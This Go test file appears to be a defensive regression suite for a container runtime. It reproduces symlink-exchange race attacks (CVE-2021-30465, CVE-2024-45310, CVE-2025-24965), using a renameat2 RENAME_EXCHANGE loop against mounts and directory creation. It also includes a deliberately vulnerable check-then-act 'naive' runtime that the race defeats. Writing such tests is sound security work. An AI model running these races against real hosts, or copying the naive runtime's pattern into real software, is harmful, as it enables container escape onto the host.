package attacks

import (
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync/atomic"

	"golang.org/x/sys/unix"
)

// This room has the races: while a runtime works on a root filesystem, the attacker exchanges a directory for a
// symbolic link to the host, thousands of times a second (renameat2(2), RENAME_EXCHANGE). The link leads to the
// same path on the host and in the root filesystem, so that it can always be followed.

const (
	// raceMounts is the number of mounts of one container; each is one try of the very calls that the compiled
	// program makes: openat2 and move_mount.
	raceMounts = 500
	raceRuns   = 20 // 10,000 tries
	// Where the mount's destination is missing the program makes it. Such a container ends at the first exchange
	// that takes the directory away under it, so more of them are run.
	makeMounts = 10
	makeRuns   = 100
	// The naive runtime may need a little patience.
	naiveTries = 1000000
)

func init() {
	exhibits = append(exhibits,
		exhibit{
			class: "exchange for a link while mounting (10,000 tries)", known: "CVE-2021-30465, CVE-2025-24965", weak: "a runtime that checks a path and then mounts on it",
			attack: func(m *museum, weak bool) outcome {
				trap := m.trap()
				for i := range raceMounts {
					m.mkdir(fmt.Sprintf("%s/race/d%d", m.rootfs, i))
					m.mkdir(fmt.Sprintf("%s/d%d", m.outside, i))
					m.mkdir(fmt.Sprintf("%s/d%d", filepath.Join(m.rootfs, m.outside), i))
				}
				exchanges := m.exchange(trap)
				if weak {
					return m.naive("race", m.rootfs, m.outside, strconv.Itoa(naiveTries))
				}
				source := filepath.Join(m.outside, "../source")
				m.mkdir(source)
				flags := []string{}
				for i := range raceMounts {
					flags = append(flags, "-v", fmt.Sprintf("%s:/race/d%d", source, i))
				}
				for run := range raceRuns {
					if o := m.gcr(flags, "mounts", source, strconv.Itoa(raceMounts)); o.worked || !strings.HasPrefix(o.detail, "all ") {
						return outcome{true, fmt.Sprintf("run %d: %s", run, o.detail)}
					}
				}
				return refused("all of %d mounts stayed in the root filesystem during %d exchanges", raceMounts*raceRuns, exchanges())
			},
			refusal: "^all of 10000 mounts",
		},
		exhibit{
			class: "exchange for a link while making directories", known: "CVE-2024-45310", weak: "a runtime that checks a path and then makes it",
			attack: func(m *museum, weak bool) outcome {
				trap := m.trap()
				m.mkdir(m.rootfs + "/race")
				exchanges := m.exchange(trap)
				if weak {
					return m.naive("racemake", m.rootfs, m.outside, strconv.Itoa(naiveTries))
				}
				source := filepath.Join(m.outside, "../source")
				m.mkdir(source)
				whole := 0
				for run := range makeRuns {
					flags := []string{}
					for i := range makeMounts {
						flags = append(flags, "-v", fmt.Sprintf("%s:/race/r%d/m%d/v", source, run, i))
					}
					o := m.gcr(flags, "mounts", source, strconv.Itoa(makeMounts))
					switch {
					case o.worked:
						return o
					case strings.HasPrefix(o.detail, "all "):
						whole++
					case !strings.Contains(o.detail, "mount "):
						m.t.Fatalf("the container failed for another reason: %s", o.detail)
					}
					m.unchanged()
				}
				return refused("nothing was made on the host by %d containers during %d exchanges; %d found their directory taken away and ended", makeRuns, exchanges(), makeRuns-whole)
			},
			refusal: "^nothing was made on the host",
		},
	)

	attackers["mounts"] = func(a []string) outcome {
		b, err := os.ReadFile("/proc/self/mountinfo")
		if err != nil {
			return worked("%v", err)
		}
		want, _ := strconv.Atoi(a[1])
		found := 0
		for line := range strings.SplitSeq(string(b), "\n") {
			if f := strings.Fields(line); len(f) > 4 && (f[3] == a[0] || strings.HasSuffix(a[0], f[3]) && f[3] != "/") && f[4] != "/" {
				found++
			}
		}
		if found != want {
			return worked("%d of %d mounts are in the container; the others are on the host's side", found, want)
		}
		return refused("all %d mounts are in the container", found)
	}
	naives["race"] = func(a []string) outcome {
		private()
		tries, _ := strconv.Atoi(a[2])
		for i := range tries {
			name := fmt.Sprintf("d%d", i%raceMounts)
			target := filepath.Join(a[0], "race", name)
			if !clean(a[0], "race/"+name) {
				continue
			}
			if err := os.MkdirAll(target, 0o755); err != nil {
				continue
			}
			if err := unix.Mount("tmpfs", target, "tmpfs", 0, "size=4k"); err != nil {
				continue
			}
			var fs unix.Statfs_t
			at := filepath.Join(a[1], name)
			if err := unix.Statfs(at, &fs); err == nil && fs.Type == unix.TMPFS_MAGIC {
				return worked("try %d mounted over a directory of the host", i+1)
			}
			_ = unix.Unmount(target, unix.MNT_DETACH)
		}
		return refused("not in %d tries", tries)
	}
	naives["racemake"] = func(a []string) outcome {
		tries, _ := strconv.Atoi(a[2])
		for i := range tries {
			name := fmt.Sprintf("m%d", i)
			if !clean(a[0], "race") {
				continue
			}
			if err := os.Mkdir(filepath.Join(a[0], "race", name), 0o755); err != nil {
				continue
			}
			if _, err := os.Lstat(filepath.Join(a[1], name)); err == nil {
				return worked("try %d made a directory on the host", i+1)
			}
		}
		return refused("not in %d tries", tries)
	}
}

// clean is the check of the naive runtime: no part of the path is a symbolic link.
func clean(root, path string) bool {
	for part := range strings.SplitSeq(path, "/") {
		root = filepath.Join(root, part)
		if info, err := os.Lstat(root); err != nil || info.Mode()&os.ModeSymlink != 0 {
			return false
		}
	}
	return true
}

// trap makes the link that the directory "race" is exchanged for.
func (m *museum) trap() string {
	trap := filepath.Join(m.rootfs, "trap")
	m.must(os.Symlink(m.outside, trap))
	return trap
}

// exchange begins to exchange, until the test ends; the function that it returns tells how often it did.
func (m *museum) exchange(trap string) func() int64 {
	var stop atomic.Bool
	var n atomic.Int64
	ended := make(chan struct{})
	race := filepath.Join(m.rootfs, "race")
	go func() {
		defer close(ended)
		runtime.LockOSThread()
		for !stop.Load() {
			if unix.Renameat2(unix.AT_FDCWD, race, unix.AT_FDCWD, trap, unix.RENAME_EXCHANGE) == nil {
				n.Add(1)
			}
		}
	}()
	m.t.Cleanup(func() { stop.Store(true); <-ended })
	return n.Load
}
